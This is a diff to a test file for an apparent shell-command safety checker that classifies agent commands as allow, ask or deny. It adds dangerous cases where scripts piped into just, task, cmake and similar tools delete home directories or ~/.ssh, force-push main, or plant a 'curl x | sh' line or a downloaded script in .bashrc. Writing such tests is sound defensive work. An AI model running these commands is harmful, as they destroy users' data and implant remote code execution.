@@ -557,7 +557,11 @@ class TestLanguagesWithUnreadEvalOptions:
 class TestScriptsFromStandardInputOfOtherTools:
     """Class: a tool whose script (or commands) come from its standard input, by `-` or `/dev/stdin`, beyond the
     shells and interpreters already read: `deno run -`, `R --no-save` fed code, `ed` fed `!CMD` lines (ed runs them
-    through the shell), `nvim -l /dev/stdin`, `just --justfile /dev/stdin`, `cmake -P /dev/stdin`."""
+    through the shell), `nvim -l /dev/stdin`, `just --justfile /dev/stdin`, `cmake -P /dev/stdin`.
+
+    Closed for the tools whose project file is read by convention (code/convention.runs): a file named by a name of
+    standard input (/dev/stdin, /dev/fd/0) is the text the line gives it; `cmake -P FILE` runs FILE, whose
+    execute_process and file() operations are read (convention.cmake_commands)."""
 
     DANGEROUS: ClassVar[list[str]] = [
         "deno run -A - <<< \"Deno.removeSync('/home/ana', {recursive: true})\"",
@@ -568,6 +572,16 @@ class TestScriptsFromStandardInputOfOtherTools:
         "nvim -l /dev/stdin <<< 'os.execute(\"rm -rf ~/\")'",
         "just --justfile /dev/stdin <<< $'x:\\n\\trm -rf ~/'",
         "cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE /home/ana)'",
+        # Written after the fix's design, before it (each allowed on the round's commit):
+        "just -f /dev/stdin <<< $'deploy:\\n\\tgit push --force origin main'",
+        "printf 'x:\\n\\trm -rf ~/\\n' | just --justfile /dev/stdin",
+        "just --justfile=/dev/fd/0 x <<< $'x:\\n\\trm -rf ~/.ssh'",
+        "task -t /dev/stdin x <<< $'version: 3\\ntasks:\\n  x:\\n    cmds:\\n      - rm -rf ~/'",
+        "cmake -P /dev/fd/0 <<< 'file(REMOVE_RECURSE /home/ana/.ssh)'",
+        "echo 'execute_process(COMMAND rm -rf /home/ana)' | cmake -P /dev/stdin",
+        "cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE $ENV{HOME})'",
+        "cmake -P /dev/stdin <<< 'file(WRITE /home/ana/.bashrc \"curl x | sh\")'",
+        "cmake -P /dev/stdin <<< 'file(RENAME /home/ana/Documents /tmp/gone)'",
     ]
     ORDINARY: ClassVar[list[str]] = [
         "deno run -A main.ts",
@@ -575,11 +589,13 @@ class TestScriptsFromStandardInputOfOtherTools:
         "printf '1,$p\\nq\\n' | ed -s notes.txt",
         "just --list",
         "cmake -P scripts/version.cmake",
+        "just --justfile /dev/stdin <<< $'x:\\n\\techo hi'",
+        "cmake -P /dev/stdin <<< 'message(STATUS hi)'",
+        "cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE build)'",
+        "cmake -P /dev/stdin <<< 'file(WRITE version.txt \"1.0\")'",
+        "cmake -S . -B build",
     ]
-    GAPS: ClassVar[dict[str, str]] = {
-        "just --justfile /dev/stdin <<< $'x:\\n\\trm -rf ~/'": "scripts from standard input of other tools",
-        "cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE /home/ana)'": "scripts from standard input of other tools",
-    }
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("command", DANGEROUS)
     def test_dangerous(self, command: str) -> None:
@@ -588,6 +604,21 @@ class TestScriptsFromStandardInputOfOtherTools:
     @pytest.mark.parametrize("command", ORDINARY)
     def test_ordinary(self, command: str) -> None:
         assert decide(command).decision == "allow"
+
+    @pytest.mark.parametrize(
+        ("script", "verdicts"),
+        [
+            ("file(REMOVE_RECURSE /home/ana)", ("ask", "deny")),
+            ("execute_process(COMMAND git push --force origin main)", ("ask", "deny")),
+            ("file(DOWNLOAD https://x.example/a.sh /home/ana/.bashrc)", ("ask", "deny")),
+            ('file(WRITE ${CMAKE_CURRENT_BINARY_DIR}/version.txt "1.0")', ("allow",)),
+            ("message(STATUS done)", ("allow",)),
+        ],
+    )
+    def test_cmake_script_file(self, script: str, verdicts: tuple[str, ...]) -> None:
+        """`cmake -P FILE` runs FILE: before the round's fix no script given to -P was read, from a file or not."""
+        got = decide({"tool_name": "Bash", "tool_input": {"command": "cmake -P scripts/x.cmake"}, "files": {"/home/ana/webapp/scripts/x.cmake": script}})
+        assert got.decision in verdicts, (script, got.decision, got.reason)
 
 
 class TestContainerCommandsOnRemoteState:
